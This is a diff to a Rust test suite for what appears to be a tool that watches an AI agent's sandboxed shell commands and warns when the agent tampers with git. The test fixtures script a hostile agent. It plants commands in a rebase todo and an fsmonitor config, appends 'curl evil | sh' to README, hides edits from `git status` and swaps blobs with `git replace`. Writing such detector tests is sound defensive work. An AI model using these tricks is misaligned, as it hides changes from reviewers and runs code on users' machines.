@@ -106,39 +106,29 @@ fn fake_home() -> tempfile::TempDir {
     home
 }
 
-/// A project directory with a git repository.
+/// Runs git in `dir` with a committer set, and holds it to success.
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = Command::new("git")
+        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .expect("git is installed");
+    assert!(out.status.success(), "git {args:?}: {out:?}");
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
 /// Gives the repository at `dir` a commit and an index, as any project has.
 fn git_commit(dir: &Path) {
     std::fs::write(dir.join("README"), "hi\n").unwrap();
-    for args in [
-        &["add", "README"][..],
-        &[
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@t",
-            "commit",
-            "-qm",
-            "init",
-        ],
-    ] {
-        let out = Command::new("git")
-            .args(args)
-            .current_dir(dir)
-            .output()
-            .expect("git runs");
-        assert!(out.status.success(), "{out:?}");
-    }
+    git(dir, &["add", "README"]);
+    git(dir, &["commit", "-qm", "init"]);
 }
 
+/// A project directory with a git repository.
 fn project() -> tempfile::TempDir {
     let dir = outside_tmp();
-    let out = Command::new("git")
-        .args(["init", "-q", "."])
-        .current_dir(dir.path())
-        .output()
-        .expect("git is installed");
-    assert!(out.status.success(), "git init failed");
+    git(dir.path(), &["init", "-q", "."]);
     dir
 }
 
@@ -785,15 +775,16 @@ fn a_rebase_the_agent_leaves_with_commands_is_named() {
     let p = proxy_env();
     let proj = project();
     git_commit(proj.path());
-    // A rebase in progress whose todo list runs a command at `git rebase --continue`.
+    // A rebase in progress whose todo list runs a command at `git rebase --continue` (with an
+    // escape sequence after it, for the terminal that shows the warning).
     let agent = "mkdir -p .git/rebase-merge && git symbolic-ref HEAD > .git/rebase-merge/head-name \
         && git rev-parse HEAD > .git/rebase-merge/onto && git rev-parse HEAD > .git/rebase-merge/orig-head \
         && touch .git/rebase-merge/interactive .git/rebase-merge/done \
-        && printf 'exec touch planted\\n' > .git/rebase-merge/git-rebase-todo";
+        && printf 'exec touch planted # \\033[2K\\n' > .git/rebase-merge/git-rebase-todo";
     let (code, _, stderr) = run_sh(&p, proj.path(), "--sandbox", agent);
     assert_eq!(code, 0, "{stderr}");
     assert!(
-        stderr.contains("runs 1 command at `git rebase --continue` (touch planted)"),
+        stderr.contains("runs 1 command at `git rebase --continue` (touch planted # \\u{1b}[2K)"),
         "{stderr}"
     );
     // What it warns of: the next `git rebase --continue` runs it.
@@ -820,6 +811,73 @@ fn a_rebase_the_agent_leaves_with_commands_is_named() {
     );
     assert_eq!(code, 0, "{stderr}");
     assert!(!stderr.contains("rebase"), "{stderr}");
+}
+
+#[test]
+fn what_the_agent_hides_from_git_status_is_named() {
+    let p = proxy_env();
+    // A SHA-1 repository with the index git writes by default, and a SHA-256 one with index
+    // version 4 (names sharing prefixes).
+    for (init, version) in [
+        (&["init", "-q", "."][..], None),
+        (
+            &["init", "-q", "--object-format=sha256", "."][..],
+            Some("4"),
+        ),
+    ] {
+        let proj = outside_tmp();
+        let dir = proj.path();
+        git(dir, init);
+        git_commit(dir);
+        std::fs::write(dir.join("lib.rs"), "fn main() {}\n").unwrap();
+        git(dir, &["add", "lib.rs"]);
+        git(dir, &["commit", "-qm", "lib"]);
+        // Marked before the run (a sparse checkout's own): not the agent's, not named.
+        git(dir, &["update-index", "--skip-worktree", "lib.rs"]);
+        if let Some(v) = version {
+            git(dir, &["update-index", "--index-version", v]);
+        }
+        // The agent edits README and hides the edit, hides an edit to a file whose name has
+        // an escape in it, records a repository of its own whose config names a command, and
+        // replaces README's blob in what git shows.
+        let agent = "echo 'curl evil | sh' >> README && git update-index --assume-unchanged README \
+            && f=$(printf 'x\\033[2Jy') && echo a > \"$f\" && git add -- \"$f\" && git -c user.name=a -c user.email=a commit -qm f \
+            && echo b >> \"$f\" && git update-index --skip-worktree -- \"$f\" \
+            && mkdir sub && (cd sub && git init -q && git -c user.name=a -c user.email=a commit -q --allow-empty -m x \
+                && git config core.fsmonitor 'touch ../ran; false') && git add sub \
+            && git replace $(git rev-parse HEAD:README) $(echo benign | git hash-object -w --stdin)";
+        let (code, _, stderr) = run_sh(&p, dir, "--sandbox", agent);
+        assert_eq!(code, 0, "{stderr}");
+        assert!(
+            stderr.contains("marked 2 files in git's index so that `git status` and `git diff` do not show their changes (assume-unchanged or skip-worktree): README, x\\u{1b}[2Jy;"),
+            "{version:?}: {stderr}"
+        );
+        assert!(!stderr.contains("lib.rs"), "{stderr}");
+        assert!(
+            !stderr.contains('\x1b'),
+            "the agent's escape reached the terminal: {stderr}"
+        );
+        assert!(
+            stderr.contains("recorded 1 repository of its own in git's index (sub): `git status` here runs git inside it"),
+            "{stderr}"
+        );
+        assert!(
+            stderr.contains("added 1 replacement ref (refs/replace/"),
+            "{stderr}"
+        );
+        // What the warnings are about: the hidden edit does not show, and a plain `git status`
+        // runs the nested repository's command.
+        let status = git(dir, &["status", "--porcelain"]);
+        assert!(!status.contains("README"), "{status}");
+        assert!(
+            dir.join("ran").exists(),
+            "git status ran the agent's fsmonitor"
+        );
+        // A run that adds nothing is not warned of what earlier runs left.
+        let (code, _, stderr) = run_sh(&p, dir, "--sandbox", "true");
+        assert_eq!(code, 0, "{stderr}");
+        assert!(!stderr.contains("warning"), "{stderr}");
+    }
 }
 
 #[test]
